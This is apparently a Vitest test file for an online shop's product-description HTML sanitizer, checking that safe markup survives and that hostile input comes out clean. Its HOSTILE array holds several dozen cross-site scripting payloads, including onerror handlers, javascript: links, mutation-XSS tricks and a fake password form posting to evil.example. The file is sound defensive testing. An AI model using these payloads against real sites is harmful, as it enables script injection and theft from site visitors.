import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cleanHtml } from '../../src/catalog/products/rich-text.js';

/** Every tag that may be left, written as strictly as the cleaner writes it; what else holds a "<" is not clean. */
const TEXT = '(?:[^"<>&]|&(?:amp|lt|gt|quot);)*';
// Browsers pass over white space in front of a scheme, and tabs and line breaks within it.
const ADDRESS = `(?:(?=https?:|mailto:|tel:)|(?!\\s*[a-zA-Z][\\w+.\\s-]*:)(?!\\s*[/\\\\]\\s*[/\\\\]))${TEXT}`;
const ATTRIBUTE = `(?: (?:(?:href|src)="${ADDRESS}"|(?:title|alt|width|height|start|colspan|rowspan|scope)="${TEXT}"))`;
const TAGS =
  'p|br|hr|h[1-6]|div|span|blockquote|pre|code|strong|b|em|i|u|s|small|sub|sup|ul|ol|li|dl|dt|dd|table|caption|' +
  'thead|tbody|tfoot|tr|th|td|a|img|figure|figcaption';
const SAFE = new RegExp(`^(?:[^<>]|<(?:${TAGS})${ATTRIBUTE}*(?: /)?>|</(?:${TAGS})>)*$`);

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="x" title="&quot; onmouseover=&quot;alert(1)">x</a>',
  '<svg onload=alert(1)><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Pay</button></form>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<p style="background:url(javascript:alert(1))" class="x" id="cart" onclick="alert(1)">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<<script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '<p title="`onmouseover=alert(1)`">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="x" target="_blank" ping="https://evil.example">x</a>',
  '<img srcset="javascript:alert(1) 1x" src="x">',
  '<video><source onerror=alert(1)></video>',
  '<x-y onfocus=alert(1) tabindex=0 autofocus>x</x-y>',
  'a&#0;b&#8;c\ud800d',
];

const lists = join(process.env['CARTWRIGHT_DATA'] ?? '', 'hostile/fuzzdb');
const fuzzdb = ['xss-xss-rsnake.txt', 'xss-all-encodings-of-lt.txt']
  .map((name) => join(lists, name))
  .filter((file) => existsSync(file))
  .flatMap((file) => readFileSync(file, 'utf8').split('\n'))
  .filter((line) => line !== '');

/** Safe, and the same when it is cleaned again: what a browser reads is what the cleaner read. */
const isClean = async (html: string): Promise<boolean> => {
  const clean = await cleanHtml(html);
  return SAFE.test(clean) && (await cleanHtml(clean)) === clean;
};

describe('rich text', () => {
  it.each([
    '<p>Heavy <strong>cotton</strong>, <em>cut</em> straight.<br />Two lines.</p>',
    '<h2>Care</h2><ul><li>Wash cold</li><li>Dry flat</li></ul><ol start="3"><li>Iron</li></ol>',
    '<table><thead><tr><th scope="col">Size</th></tr></thead><tbody><tr><td colspan="2">M</td></tr></tbody></table>',
    '<a href="https://example.com/size?a=1&amp;b=2" title="Sizes">Sizes</a> <a href="/care#wash">Care</a>',
    '<a href="mailto:help@example.com">Write</a> <a href="tel:+4930123456">Call</a>',
    '<figure><img src="https://images.example.com/a.jpg" alt="A &quot;blue&quot; shirt" width="640" /></figure>',
    'Fish &amp; chips &lt; 5 &gt; 3 café 🧦',
  ])('keeps %s', async (html) => {
    expect(await cleanHtml(html)).toBe(html);
    expect(await isClean(html)).toBe(true);
  });

  it.each([
    ['<p class="x" style="color:red" onclick="x()">Text</p>', '<p>Text</p>'],
    ['<section><article>Text</article></section>', 'Text'],
    ['Be<script>alert(1)</script>fore', 'Before'],
    ['<a href="javascript:alert(1)">Link</a>', '<a>Link</a>'],
    ['<img src="data:image/png;base64,AAAA" alt="x">', '<img alt="x" />'],
    ['<p>One<p>Two', '<p>One</p><p>Two</p>'],
    ['2 < 3 & 5 > 4', '2 &lt; 3 &amp; 5 &gt; 4'],
  ])('makes of %s only what is safe', async (html, clean) => {
    expect(await cleanHtml(html)).toBe(clean);
  });

  it('uses a cleaner without the holes of 2.17.4', () => {
    const { version } = JSON.parse(readFileSync('node_modules/sanitize-html/package.json', 'utf8')) as {
      version: string;
    };
    const [major, minor, patch] = version.split('.').map(Number) as [number, number, number];
    expect(major * 1_000_000 + minor * 1_000 + patch).toBeGreaterThanOrEqual(2_017_005);
  });

  it.each(HOSTILE)('leaves nothing that runs of %j', async (html) => {
    expect(await isClean(html)).toBe(true);
  });

  it.skipIf(fuzzdb.length === 0)('leaves nothing that runs of known attacks', async () => {
    expect(fuzzdb.length).toBeGreaterThan(100);
    for (const line of fuzzdb) {
      expect([line, await isClean(line)]).toEqual([line, true]);
      expect([line, await isClean(`<p title="${line}">${line}</p>`)]).toEqual([line, true]);
    }
  });

  it.each(['<div>', '<b><i>', '<a href="', '<!--', '&lt;', '<table><tr><td>', '</p>', '<p title=\'"'])(
    'is soon done with 20,000 characters of %j',
    async (piece) => {
      expect(await isClean(piece.repeat(20_000 / piece.length))).toBe(true);
    },
  );
});
